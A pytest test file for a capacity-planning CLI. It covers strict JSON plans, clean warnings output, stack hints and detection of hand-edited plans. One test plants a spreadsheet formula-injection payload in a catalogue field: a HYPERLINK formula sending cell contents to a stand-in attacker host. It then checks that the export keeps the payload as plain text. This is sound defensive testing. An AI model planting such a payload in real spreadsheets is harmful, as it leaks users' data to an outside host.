"""What a user reads: strict plans, no leaking warnings, hints that lead somewhere."""

from __future__ import annotations

import json
import zipfile
from pathlib import Path

import pandas as pd
import yaml
from click.testing import CliRunner

from planner.cli import main
from tests.conftest import run_cli
from tests.test_cli import size_args

REPO = Path(__file__).resolve().parent.parent


def zero_io_inputs(small_inputs: dict[str, Path]) -> dict[str, Path]:
    frame = pd.read_csv(small_inputs["profile"], dtype=str)
    for metric in ("stored_tib", "read_iops", "write_iops", "write_mib_s"):
        frame[metric] = "0"
    frame.to_csv(small_inputs["profile"], index=False)
    return small_inputs


def strict_json(text: str) -> object:
    def refuse(name: str) -> object:
        raise ValueError(f"{name} in a plan")

    return json.loads(text, parse_constant=refuse)


def test_a_profile_without_storage_or_io_gives_a_strict_plan(
    small_inputs: dict[str, Path], tmp_path: Path
) -> None:
    plan = tmp_path / "plan.json"
    done = run_cli(size_args(zero_io_inputs(small_inputs), plan), tmp_path)
    assert done.returncode == 0, done.stderr
    doc = strict_json(plan.read_text())
    assert isinstance(doc, dict)
    empty = [c for c in doc["constraints"] if c["no_demand"]]
    assert empty
    zero = [c for c in empty if c["capacity"] == 0]
    assert zero  # e.g. no drives for no data: margin stated as "no demand", not -inf
    assert all(c["margin_pct"] is None for c in zero)
    assert "inf" not in done.stdout
    # the stderr of a normal run is the solver line and nothing else: no library warnings
    assert done.stderr.strip().splitlines() == [
        line for line in done.stderr.strip().splitlines() if line.startswith("MILP:")
    ]
    report = run_cli(
        [
            "report",
            str(plan),
            *size_args(small_inputs, plan)[1:-2],
            "--years",
            "1000",
            "--out",
            str(tmp_path / "r"),
        ],
        tmp_path,
    )
    assert report.returncode == 0, report.stderr
    assert "Warning" not in report.stderr
    assert "no demand" in (tmp_path / "r" / "report.html").read_text()


def test_a_formula_in_a_catalogue_source_stays_text_in_the_spreadsheet(
    small_inputs: dict[str, Path], tmp_path: Path
) -> None:
    doc = yaml.safe_load(small_inputs["catalog"].read_text())
    evil = '=HYPERLINK("http://attacker.invalid/?"&A1,"click")'
    doc["servers"][0]["source"] = evil
    doc["drives"][0]["source"] = "+1+1"
    small_inputs["catalog"].write_text(yaml.safe_dump(doc, sort_keys=False))
    plan = tmp_path / "plan.json"
    assert CliRunner().invoke(main, size_args(small_inputs, plan)).exit_code == 0
    out = tmp_path / "report"
    args = ["report", str(plan), *size_args(small_inputs, plan)[1:-2], "--years", "1000"]
    result = CliRunner().invoke(main, [*args, "--out", str(out)])
    assert result.exit_code == 0, result.output
    from openpyxl import load_workbook

    book = load_workbook(out / "bill-of-materials.xlsx")
    cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row]
    injected = [c for c in cells if c.value in (evil, "+1+1")]
    assert injected
    assert all(c.data_type == "s" for c in injected)
    with zipfile.ZipFile(out / "bill-of-materials.xlsx") as archive:
        xml = "".join(
            archive.read(name).decode() for name in archive.namelist() if "worksheets" in name
        )
    assert "<f>HYPERLINK" not in xml
    assert "<f>=HYPERLINK" not in xml


def test_check_with_the_stack_inputs_and_a_hint_without_them() -> None:
    ok = run_cli(["size", "--check", "stacks/dev/plan.json", "--stack", "dev"], REPO)
    assert ok.returncode == 0, ok.stderr
    assert "up to date" in ok.stdout
    stale = run_cli(["size", "--check", "stacks/dev/plan.json"], REPO)
    assert stale.returncode == 1
    lines = stale.stderr.strip().splitlines()
    assert len(lines) == 1, lines
    assert "the spec given is example-spec.yaml, the plan was made from spec.yaml" in lines[0]
    assert "add --stack dev (stacks/dev/inputs.yaml)" in lines[0]


def test_simulate_and_report_name_the_stack_inputs_too(tmp_path: Path) -> None:
    plan = REPO / "stacks" / "dev" / "plan.json"
    done = run_cli(["simulate", "availability", str(plan), "--years", "100"], REPO)
    assert done.returncode == 2
    assert "add --stack dev" in done.stderr
    ok = run_cli(["simulate", "availability", str(plan), "--stack", "dev", "--years", "100"], REPO)
    assert ok.returncode == 0, ok.stderr


def test_help_texts_show_percent_signs_once() -> None:
    result = CliRunner().invoke(main, ["simulate", "incident", "--help"])
    assert "80 % capacity" in result.output
    assert "%%" not in result.output


def test_diff_flags_a_hand_edited_plan(tmp_path: Path) -> None:
    plan = json.loads((REPO / "stacks" / "prod" / "plan.json").read_text())
    plan["assumptions"]["pue"] = 1.2
    edited = tmp_path / "edited.json"
    edited.write_text(json.dumps(plan))
    result = CliRunner().invoke(main, ["diff", str(REPO / "stacks/prod/plan.json"), str(edited)])
    assert result.exit_code == 0
    assert "edited by hand after `planner size` wrote it" in result.stderr


def test_a_refused_simulation_of_a_hand_edited_plan(tmp_path: Path) -> None:
    plan = json.loads((REPO / "stacks" / "prod" / "plan.json").read_text())
    plan["sites"][0]["battery"]["runtime_minutes_at_design_load"]["new"] = 999.0
    edited = tmp_path / "plan.json"
    edited.write_text(json.dumps(plan))
    result = CliRunner().invoke(main, ["simulate", "availability", str(edited), "--years", "10"])
    assert result.exit_code == 2
    assert "key 'digest'" in result.output
    assert "edited by hand" in result.output
